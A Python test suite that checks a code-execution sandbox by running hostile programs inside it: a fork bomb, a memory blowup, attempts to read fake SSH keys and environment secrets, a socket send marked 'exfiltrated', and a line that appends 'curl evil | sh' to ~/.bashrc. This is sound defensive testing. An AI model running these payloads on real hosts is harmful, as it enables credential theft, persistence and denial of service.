"""Hostile programs in the sandbox, each with an assertion on what actually happened on the host.

Every attack runs in three modes: the default (namespaces and the Python guards); the operating
system's wall alone (namespaces, own uid and rlimits, no guards: root only), so it is shown to
hold by itself; and the guards alone over rlimits (what a machine without namespaces gets). An
autouse fixture checks after each test that no process of the run is left.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

from reason.verifiers.sandbox import Sandbox, SandboxLimits, _weak_mode_refused
from reason.verifiers.sandbox_processes import UID_BASE, UID_SPAN

MODES = {"default": (True, True), "os-only": (False, True), "guards-only": (True, False)}
"""Mode name -> (Python guards, namespaces)."""
GUARDS = [pytest.param(name, id=name) for name in MODES]


def sandbox(mode: str, **limits) -> Sandbox:
    guards, namespaces = MODES[mode]
    if not guards and os.geteuid() != 0:
        pytest.skip("without the Python guards only a root run (namespaces + own uid) is expected to contain this")
    chosen = SandboxLimits(python_guards=guards, namespaces=namespaces, **limits)
    if _weak_mode_refused(chosen):
        pytest.skip("the weak mode is refused on this machine (its own uid cannot reach the interpreter); "
                    "tests/test_sandbox_fail_closed.py checks that refusal")
    return Sandbox(chosen)


def _sandbox_processes() -> list[str]:
    """Processes on the host that belong to a sandbox run: its uid range, or its launcher/worker scripts."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            uid = int(Path(f"/proc/{entry}/status").read_text().split("Uid:")[1].split()[0])
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError, ValueError):
            continue
        if UID_BASE <= uid < UID_BASE + UID_SPAN or "sandbox_child.py" in cmdline or "sandbox_boot.py" in cmdline:
            found.append(f"{entry}: uid {uid}: {cmdline[:120]}")
    return found


@pytest.fixture(autouse=True)
def no_process_left_behind():
    yield
    assert _sandbox_processes() == []


@pytest.fixture
def fake_home(tmp_path, monkeypatch):
    """A temporary HOME with a planted ~/.ssh key, so the real one is never at stake."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN FAKE KEY----- hunter2-ssh\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def victim(tmp_path):
    """A file the program does not own, in a directory anyone may write (so only the sandbox stops it).

    Placed outside /tmp when the host allows it, so it is not merely hidden by the private /tmp.
    """
    base = next((d for d in ("/run", "/var/lib", "/opt") if os.access(d, os.W_OK)), str(tmp_path))
    folder = Path(tempfile.mkdtemp(prefix="reason-victim-", dir=base))
    folder.chmod(0o777)
    target = folder / "keep-me.txt"
    target.write_text("precious")
    target.chmod(0o666)
    yield target
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("guards", GUARDS)
def test_fork_bomb_is_contained(guards):
    code = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    result = sandbox(guards, wall_s=4, processes=8).run(code)
    assert result.status in ("timeout", "error")
    assert subprocess.run(["true"], check=False).returncode == 0  # the host can still start processes


@pytest.mark.parametrize("guards", GUARDS)
def test_busy_loop_is_stopped(guards):
    started = time.monotonic()
    result = sandbox(guards, wall_s=5, cpu_s=1).run("while True:\n    pass\n")
    assert result.status == "timeout"
    assert result.limit in ("cpu_time", "wall_time")
    assert time.monotonic() - started < 15


@pytest.mark.parametrize("guards", GUARDS)
def test_allocating_20_gib_fails_without_touching_host_memory(guards):
    before = _available_memory()
    result = sandbox(guards, memory_mb=512).run("block = bytearray(20 * 2**30)\nprint('allocated')\n")
    assert (result.status, result.limit) == ("error", "memory")
    assert "allocated" not in result.stdout
    assert _available_memory() > before - 2 * 2**30


@pytest.mark.parametrize("guards", GUARDS)
def test_writing_outside_its_directory_fails(guards, fake_home):
    targets = [fake_home / "pwned.txt", Path("/work/main/.pwned-by-sandbox"), Path.cwd() / ".pwned-by-sandbox"]
    code = "\n".join(
        f"try:\n    open({str(t)!r}, 'w').write('x')\n    print('wrote {t}')\nexcept OSError as e:\n    print('refused', e)"
        for t in targets
    ) + "\nimport os\ntry:\n    open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\nexcept OSError as e:\n    print('refused', e)\n"
    result = sandbox(guards).run(code)
    assert result.status == "pass", result.stderr
    for target in targets:
        assert not target.exists()
    assert not (fake_home / ".bashrc").exists()


@pytest.mark.parametrize("guards", GUARDS)
def test_secrets_in_environment_and_ssh_are_not_visible(guards, fake_home, monkeypatch):
    monkeypatch.setenv("REASON_FAKE_SECRET", "hunter2-env")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-aws")
    code = f"""
import os, glob
print(dict(os.environ))
for path in [{str(fake_home / '.ssh' / 'id_rsa')!r}, os.path.expanduser('~/.ssh/id_rsa'), '/proc/1/environ',
             '/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ']:
    try:
        print(path, open(path, errors='replace').read())
    except OSError as e:
        print(path, 'refused', e)
print(glob.glob('/root/*') + glob.glob('/home/*') + glob.glob({str(fake_home)!r} + '/*'))
"""
    result = sandbox(guards).run(code)
    assert result.status == "pass", result.stderr
    seen = result.stdout + result.stderr
    assert "hunter2" not in seen
    assert "REASON_FAKE_SECRET" not in seen


@pytest.mark.parametrize("guards", GUARDS)
def test_socket_to_a_local_listener_never_connects(guards):
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(listener.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    code = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "s.sendall(b'exfiltrated')\nprint('connected')\n"
    )
    try:
        result = sandbox(guards).run(code)
        time.sleep(0.5)
    finally:
        stop.set()
        thread.join()
        listener.close()
    assert accepted == []
    assert "connected" not in result.stdout
    assert result.status in ("fail", "error")


@pytest.mark.parametrize("guards", GUARDS)
def test_shell_and_subprocesses_are_contained(guards, fake_home):
    marker = fake_home / "shell-was-here"
    code = (
        "import os, subprocess\n"
        f"try:\n    os.system('touch {marker}; sleep 61.2345 &')\nexcept Exception as e:\n    print('refused', e)\n"
        "try:\n    subprocess.Popen(['sleep', '62.3456'])\nexcept Exception as e:\n    print('refused', e)\n"
        f"try:\n    print(subprocess.run('echo pwned > {marker}', shell=True).returncode)\nexcept Exception as e:\n    print('refused', e)\n"
    )
    result = sandbox(guards).run(code)
    assert result.status in ("pass", "fail", "error")
    assert not marker.exists()
    leftovers = subprocess.run(["pgrep", "-f", "61.2345|62.3456"], capture_output=True, text=True, check=False).stdout
    assert leftovers.strip() == ""


@pytest.mark.parametrize("guards", GUARDS)
def test_printing_a_gigabyte_is_cut_off(guards):
    started = time.monotonic()
    code = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)\n"
    result = sandbox(guards, max_output_bytes=100_000, wall_s=30).run(code)
    assert (result.status, result.limit, result.truncated) == ("error", "output", True)
    assert len(result.stdout) == 100_000
    assert time.monotonic() - started < 25


@pytest.mark.parametrize("guards", GUARDS)
def test_deleting_files_it_does_not_own_fails(guards, victim):
    code = (
        "import os, shutil\n"
        f"for attempt in (lambda: os.remove({str(victim)!r}), lambda: shutil.rmtree({str(victim.parent)!r}),\n"
        f"                lambda: open({str(victim)!r}, 'w').write('')):\n"
        "    try:\n        attempt()\n        print('done')\n    except OSError as e:\n        print('refused', e)\n"
    )
    result = sandbox(guards).run(code)
    assert result.status == "pass", result.stderr
    assert victim.read_text() == "precious"


def _available_memory() -> int:
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    return 0
